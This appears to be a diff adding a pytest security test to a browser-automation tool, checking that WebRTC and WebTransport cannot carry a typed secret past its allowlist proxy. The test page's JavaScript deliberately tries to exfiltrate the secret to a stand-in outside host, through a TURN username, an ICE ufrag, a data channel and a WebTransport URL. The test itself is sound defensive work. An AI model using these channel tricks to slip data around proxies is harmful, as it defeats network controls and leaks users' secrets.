@@ -1,0 +1,206 @@
+"""Nothing leaves by a channel the allowlist proxy cannot see: WebRTC's UDP, WebTransport.
+
+Chromium sends WebRTC's UDP (STUN, TURN over UDP, ICE checks, data channels)
+around proxies, so the guard alone let a page send the secret a plan typed to
+an outside host as an ICE username. Here a real UDP listener on a second
+loopback address (127.0.0.2, outside the plan's allowlist of 127.0.0.1)
+counts every datagram while a page tries each channel with the typed secret:
+it must count zero, the plan must pass (a subresource to an outside host is
+aborted and traced, not raised: plan-format-v1.md), the trace must list each
+attempt as a blocked request, and the secret must be in no file of the run.
+The same page runs in the browser this suite launches and in one a real
+Playwright server launches for the connection (docs/invariants.md).
+"""
+
+from __future__ import annotations
+
+import select
+import socket
+import threading
+import time
+from types import SimpleNamespace
+from typing import Iterator
+
+import pytest
+
+from pytest_cometlocal.audit import verify_run
+from pytest_cometlocal.executor.chromium import system_chromium
+from pytest_cometlocal.executor.remote import PLAYWRIGHT_SERVER, RemoteTarget, connect_browser
+from tests.reliability.faultserver import LoopbackServer, RoutedHandler
+from tests.reliability.test_security import readable_forms
+from tests.support import DEFAULTS
+
+OUTSIDE = "127.0.0.2"
+SECRET = "Rtc5ecretUfrag42"  # ICE-ufrag characters only, so the page can use it as one
+CHANNELS = ("stun", "turn", "ice", "webtransport")
+
+# The page reads the secret the plan typed, then tries every channel to OUTSIDE and
+# keeps the peer connection open (ICE checks repeat) for a while before it says "sent".
+CHANNEL_PAGE = """
+<label>Token <input id="secret"></label><button id="go">Go</button><p id="done"></p>
+<script>
+window.attempts = [];
+const note = (...a) => window.attempts.push(a.join(" "));
+document.getElementById("go").onclick = async () => {
+  const secret = document.getElementById("secret").value;
+  try {
+    const pc = new RTCPeerConnection({iceServers: [
+      {urls: "stun:%(host)s:%(stun)d"},
+      {urls: "turn:%(host)s:%(turn)d?transport=udp", username: secret, credential: secret}]});
+    window.keep = pc;
+    pc.onicecandidate = e => note("candidate", e.candidate && e.candidate.candidate);
+    pc.createDataChannel("leak").onopen = function () { this.send(secret); };
+    const offer = await pc.createOffer();
+    await pc.setLocalDescription(offer);
+    const fingerprint = (offer.sdp.match(/a=fingerprint:.*/) || [""])[0];
+    const answer = ["v=0", "o=- 1 2 IN IP4 %(host)s", "s=-", "t=0 0", "a=group:BUNDLE 0",
+      "m=application 9 UDP/DTLS/SCTP webrtc-datachannel", "c=IN IP4 %(host)s",
+      "a=ice-ufrag:" + secret, "a=ice-pwd:" + secret + secret, fingerprint, "a=setup:active", "a=mid:0",
+      "a=sctp-port:5000", "a=candidate:1 1 udp 2122260223 %(host)s %(ice)d typ host", ""].join("\\r\\n");
+    await pc.setRemoteDescription({type: "answer", sdp: answer});
+    await pc.addIceCandidate({candidate: "candidate:2 1 udp 2122260222 %(host)s %(ice)d typ host",
+                              sdpMid: "0", sdpMLineIndex: 0});
+    note("webrtc", "set up");
+  } catch (e) { note("webrtc error", e.name, e.message); }
+  try {
+    const wt = new WebTransport("https://%(host)s:%(webtransport)d/" + secret);
+    wt.ready.then(() => note("webtransport open"), e => note("webtransport failed", e.message));
+  } catch (e) { note("webtransport error", e.name, e.message); }
+  await new Promise(resolve => setTimeout(resolve, 3000));
+  document.getElementById("done").textContent = "sent";
+};
+</script>
+"""
+
+
+class UdpListener:
+    """UDP sockets on OUTSIDE, one per channel, counting every datagram that arrives."""
+
+    def __init__(self) -> None:
+        self.sockets: dict[str, socket.socket] = {}
+        self.datagrams: dict[str, list[bytes]] = {name: [] for name in CHANNELS}
+        for name in CHANNELS:
+            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            sock.bind((OUTSIDE, 0))
+            self.sockets[name] = sock
+        self.ports = {name: s.getsockname()[1] for name, s in self.sockets.items()}
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._count, daemon=True)
+        self._thread.start()
+
+    def _count(self) -> None:
+        by_fd = {s.fileno(): name for name, s in self.sockets.items()}
+        while not self._stop.is_set():
+            readable, _, _ = select.select(list(self.sockets.values()), [], [], 0.05)
+            for sock in readable:
+                self.datagrams[by_fd[sock.fileno()]].append(sock.recv(65536))
+
+    def counts(self) -> dict[str, int]:
+        return {name: len(d) for name, d in self.datagrams.items()}
+
+    def close(self) -> None:
+        self._stop.set()
+        self._thread.join(5)
+        for sock in self.sockets.values():
+            sock.close()
+
+
+@pytest.fixture
+def udp_outside() -> Iterator[UdpListener]:
+    try:
+        listener = UdpListener()
+    except OSError as exc:  # a system without 127.0.0.0/8 on its loopback interface
+        pytest.skip(f"cannot bind UDP on {OUTSIDE}: {exc}")
+    yield listener
+    listener.close()
+
+
+@pytest.fixture
+def channel_page(udp_outside: UdpListener) -> Iterator[str]:
+    body = CHANNEL_PAGE % {"host": OUTSIDE, **udp_outside.ports}
+
+    class Handler(RoutedHandler):
+        def route_channels(self, query: dict[str, str]) -> None:
+            self._page("Channels", body)
+
+    with LoopbackServer() as server:
+        Handler.owner = server
+        server._serve(Handler)
+        yield server.url + "/channels"
+
+
+def channel_plan(url: str) -> str:
+    return ("name: channels\nsecrets: {token: {env: RTC_TOKEN}}\nallowlist: [127.0.0.1]\n" + DEFAULTS
+            + "steps:\n"
+            f"  - {{id: open, kind: navigate, target: {{type: url, url: '{url}'}}}}\n"
+            "  - {id: type, kind: fill, target: {type: label, text: Token, exact: true}, value: '${secrets.token}'}\n"
+            "  - {id: go, kind: click, target: {type: role, role: button, name: Go}, timeout_ms: 10000,"
+            " postconditions: [{kind: element_text_contains, args: {target: {type: css, selector: '#done'}, text: sent}}]}\n")
+
+
+def assert_nothing_left(r, listener: UdpListener) -> None:
+    time.sleep(0.5)  # datagrams still in flight when the context closed
+    leaked = {name: sum(SECRET.encode() in d for d in data) for name, data in listener.datagrams.items()}
+    assert listener.counts() == dict.fromkeys(CHANNELS, 0), f"datagrams {listener.counts()}, with the secret {leaked}"
+    assert r.error is None, r.error  # aborted and traced, not raised
+    assert verify_run(r.run_dir).ok
+    blocked = [b for e in r.events for b in (e.get("metadata") or {}).get("blocked_requests", [])]
+    refused = {(b["method"], b["url"]) for b in blocked if b["host"] == OUTSIDE}
+    ports = listener.ports
+    assert {("STUN", f"stun:{OUTSIDE}:{ports['stun']}"), ("TURN", f"turn:{OUTSIDE}:{ports['turn']}?transport=udp"),
+            ("ICE", f"ice:{OUTSIDE}:{ports['ice']}")} <= refused, refused
+    assert any(method == "WEBTRANSPORT" for method, _ in refused), refused
+    for name, data in r.files().items():
+        if name.endswith(".png"):
+            continue
+        for form in readable_forms(data):
+            assert SECRET not in form, name
+
+
+def test_no_webrtc_or_webtransport_datagram_leaves_a_launched_browser(run, udp_outside, channel_page):
+    r = run(channel_plan(channel_page), env={"RTC_TOKEN": SECRET})
+    assert_nothing_left(r, udp_outside)
+    assert r.manifest["guards"] == {"proxy": True, "webrtc_launch_flag": "set", "webrtc_page_script": True}
+
+
+@pytest.fixture(scope="module")
+def playwright_server_url() -> Iterator[str]:
+    from tests.plugin.test_remote import REMOTE_CHROMIUM, playwright_server
+
+    if REMOTE_CHROMIUM is None:
+        pytest.skip("no system Chromium for the Playwright server to launch")
+    with playwright_server() as url:
+        yield url
+
+
+def test_no_webrtc_datagram_leaves_a_playwright_servers_browser(chromium, tmp_path, udp_outside, channel_page,
+                                                               playwright_server_url):
+    from tests.plugin.test_remote import REMOTE_CHROMIUM
+    from tests.support import run_text
+
+    # The plugin's own connection code, on the suite's Playwright (one per thread).
+    playwright = SimpleNamespace(chromium=chromium.browser().browser_type)
+    target = RemoteTarget(PLAYWRIGHT_SERVER, playwright_server_url, REMOTE_CHROMIUM)
+    remote = connect_browser(playwright, target, {"headless": True})
+    try:
+        r = run_text(SimpleNamespace(browser=lambda: remote), tmp_path, channel_plan(channel_page), "http://127.0.0.1/",
+                     env={"RTC_TOKEN": SECRET}, profile=target.profile())
+    finally:
+        remote.close()
+    assert_nothing_left(r, udp_outside)
+    assert r.manifest["guards"]["webrtc_launch_flag"] == "requested"
+
+
+def test_the_page_script_alone_holds_in_a_browser_without_the_flag(chromium, tmp_path, udp_outside, channel_page):
+    """A CDP endpoint's Chromium was started by someone else, without our flags: the page script
+    is then the only WebRTC guard, and for this page it holds by itself."""
+    from tests.support import run_text
+
+    bare = chromium.browser().browser_type.launch(headless=True, executable_path=system_chromium())
+    try:
+        r = run_text(SimpleNamespace(browser=lambda: bare), tmp_path, channel_plan(channel_page), "http://127.0.0.1/",
+                     env={"RTC_TOKEN": SECRET}, profile={"connection": "cdp", "endpoint": "ws://127.0.0.1:9/"})
+    finally:
+        bare.close()
+    assert_nothing_left(r, udp_outside)
+    assert r.manifest["guards"]["webrtc_launch_flag"] == "absent"
